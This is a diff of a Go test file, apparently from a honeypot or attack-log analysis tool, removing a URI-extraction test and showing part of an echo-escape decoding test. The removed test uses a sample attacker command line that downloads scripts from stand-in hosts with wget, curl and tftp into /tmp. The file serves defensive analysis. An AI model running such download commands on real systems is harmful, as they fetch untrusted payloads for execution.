@@ -364,17 +364,6 @@ func TestRmGlob(t *testing.T) {
 	}
 }
 
-func TestExtractURIs(t *testing.T) {
-	line := `cd /tmp; wget http://1.2.3.4/a.sh; curl -O https://evil.example/b?x=1; tftp://5.6.7.8/c`
-	uris := ExtractURIs(line)
-	if len(uris) != 3 {
-		t.Fatalf("uris = %v", uris)
-	}
-	if uris[0] != "http://1.2.3.4/a.sh" || uris[2] != "tftp://5.6.7.8/c" {
-		t.Errorf("uris = %v", uris)
-	}
-}
-
 func TestDecodeEchoEscapesProperty(t *testing.T) {
 	// Round-trip: encoding arbitrary bytes as \xHH escapes and decoding
 	// must reproduce them — this is how bbox_echo_elf drops binaries.
